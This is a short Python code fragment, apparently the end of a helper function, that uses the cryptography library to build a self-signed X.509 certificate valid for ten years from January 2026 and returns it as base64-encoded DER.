    begins = datetime(2026, 1, 1, tzinfo=UTC)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(begins)
        .not_valid_after(begins + timedelta(days=3_650))
        .sign(key, SHA256())
    )
    return base64.b64encode(made.public_bytes(Encoding.DER)).decode("ascii")
